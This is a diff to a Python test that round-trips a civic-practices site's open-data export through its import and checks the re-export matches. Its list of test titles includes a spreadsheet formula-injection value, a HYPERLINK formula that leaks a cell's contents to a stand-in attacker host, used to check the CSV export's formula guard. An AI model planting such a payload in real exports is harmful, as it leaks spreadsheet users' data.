@@ -1,7 +1,8 @@
 """The open-data export round-trips through the import: the whole demo base plus generated
 practices — on a commune déléguée, a commune associée, a municipal arrondissement, a code
 shared by a commune and its commune déléguée, with titles a spreadsheet would take for
-formulas — exported, then imported into an empty database, with no row refused."""
+formulas — exported, then imported into an empty database, with no row refused, and exported
+again as the same practices. One test: each seeds the whole demo, the suite's costliest step."""
 
 import csv
 import io
@@ -25,6 +26,12 @@ FORMER_COMMUNES = [
 ]
 FORMULA_TITLES = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez\")", "+33 habitants relogés", "-20 % de vacance",
                   "@SUM(A1:A9)"]
+
+
+def comparable(export: dict, leave_out: set[str]) -> list[dict]:
+    volatile = {"url", "first_published_at", "last_published_at", "documents"}  # documents are not imported
+    rows = (row for row in export["practices"] if row["title"] not in leave_out)
+    return sorted(({k: v for k, v in row.items() if k not in volatile} for row in rows), key=lambda r: r["id"])
 
 
 def test_demo_base_plus_generated_practices_reimport_with_no_rejection(demo_communes_dir, tmp_path, client):
@@ -72,6 +79,15 @@ def test_demo_base_plus_generated_practices_reimport_with_no_rejection(demo_comm
     for page in PracticePage.objects.all():
         page.get_latest_revision().publish()  # every imported draft publishes as it is
     assert PracticePage.objects.live().count() == live
+
+    # Exported again, the same practices: only the write-ups on a former commune changed, by
+    # design (attached to the current commune, the former name kept as a tag).
+    again = tmp_path / "again.json"
+    call_command("export_practices", str(again), stderr=io.StringIO())
+    moved = set(expected_commune)
+    before = comparable(json.loads(json_path.read_text(encoding="utf-8")), moved)
+    assert len(before) == live - len(moved)
+    assert comparable(json.loads(again.read_text(encoding="utf-8")), moved) == before
 
     # The CSV export passes the same validation (a dry run is the import's first pass), and its
     # guard against formulas is undone when read back.
